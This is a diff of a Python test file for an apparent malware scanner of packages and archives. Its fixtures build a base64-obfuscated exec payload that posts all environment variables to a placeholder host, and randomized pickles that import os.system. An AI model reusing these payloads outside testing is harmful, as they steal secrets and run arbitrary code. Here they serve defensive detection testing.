@@ -113,7 +113,8 @@ def test_sarif_and_explain(tmp_path):
 
 def test_sarif_names_no_line_of_a_layer(tmp_path):
     """A line of what was decoded is none of the file: it stands among the properties, with the layers and what they hid."""
-    inner = base64.b64encode(b"#\n" * 50 + b"import os, requests\nrequests.post('https://example.invalid/x', json=dict(os.environ))\n")
+    sends = b"import os, requests\nrequests.post('https://example.invalid/x', json=dict(os.environ))\n"
+    inner = base64.b64encode(b"#\n" * 50 + sends)
     source = b"import base64\nexec(base64.b64decode('%s'))\n" % inner
     (tmp_path / "pkg-1.0-py3-none-any.whl").write_bytes(zip_bytes(whole([("pkg/__init__.py", source)])))
     [log] = json.loads(inspect("--format", "sarif", tmp_path / "pkg-1.0-py3-none-any.whl").stdout)["runs"]
@@ -159,7 +160,7 @@ def test_the_names_of_a_parcel_are_its_makers(tmp_path):
         (tmp_path / "parcel.zip").write_bytes(zip_bytes([(name, zip_bytes([("setup.py", setup)]))]))
         _, [found] = answers(tmp_path / "parcel.zip")
         seen.append((found["verdict"], sorted({f["location"]["member"] for f in found["findings"] if f["location"]})))
-    assert seen == [("malicious", ["setup.py"])] * 4, seen
+    assert seen == [("hold", ["setup.py"])] * 4, seen
 
 
 class Told(pickle.Unpickler):
@@ -180,16 +181,24 @@ def told(data):
     return machine.told
 
 
+PUSHES = [
+    *(b"N", b"\x88", b")", b"]", b"}", b"K\x01", b"M\0\1", b"J\0\0\0\1", b"G" + b"\0" * 8, b"I01\n", b"F1\n"),
+    *(b"\x8a\x01\5", b"C\1a", b"\x8c\1a", b"X\1\0\0\0a", b"Va\n", b"S'a'\n", b"\x8f", b"2", b"(t", b"(NNl", b"h\0", b"(NNd"),
+]
+OTHERS = [b"0", b"0", b"\x94", b"q\5", b"h\5", b"(", b"1", b"1", b"\x85", b"\x86", b"\x87", b"t", b"l"]
+
+
 def pickles(count, seed=7):
     """Pickles that import os.system by names on the stack, among opcodes that push, pop, mark and remember at random; some of
     them fail before they get there."""
     dice = random.Random(seed)
-    pushes = [b"N", b"\x88", b")", b"]", b"}", b"K\x01", b"M\0\1", b"J\0\0\0\1", b"G" + b"\0" * 8, b"I01\n", b"F1\n"]
-    pushes += [b"\x8a\x01\5", b"C\1a", b"\x8c\1a", b"X\1\0\0\0a", b"Va\n", b"S'a'\n", b"\x8f", b"2", b"(t", b"(NNl", b"h\0", b"(NNd"]
-    others = [b"0", b"0", b"\x94", b"q\5", b"h\5", b"(", b"1", b"1", b"\x85", b"\x86", b"\x87", b"t", b"l"]
+
+    def noise(most):
+        return b"".join(dice.choice(PUSHES if dice.random() < 0.5 else OTHERS) for _ in range(dice.randrange(most)))
+
     for _ in range(count):
-        noise = lambda most: b"".join(dice.choice(pushes if dice.random() < 0.5 else others) for _ in range(dice.randrange(most)))
-        yield b"\x80\x04\x8c\2os\x94" + noise(4) + b"\x8c\6system\x94" + noise(6) + b"0" * dice.randrange(3) + b"\x93)R."
+        names = b"\x8c\2os\x94" + noise(4) + b"\x8c\6system\x94" + noise(6)
+        yield b"\x80\x04" + names + b"0" * dice.randrange(3) + b"\x93)R."
 
 
 def test_pickles_are_read_as_python_loads_them(tmp_path):
@@ -206,7 +215,7 @@ def test_pickles_are_read_as_python_loads_them(tmp_path):
     for finding in (finding for one in answered for finding in one["findings"]):
         if finding["check"] == "pickle-code" and finding["excerpt"] == "os.system":
             found.add(int(finding["location"]["member"].split("/")[1].removesuffix(".pkl")))
-    assert found == reached, (sorted(found - reached)[:5], sorted(reached - found)[:5], [data[n] for n in sorted(found ^ reached)[:3]])
+    assert found == reached, [(n in found, n in reached, data[n]) for n in sorted(found ^ reached)[:5]]
 
 
 def test_any_readable_archive_is_judged(tmp_path):
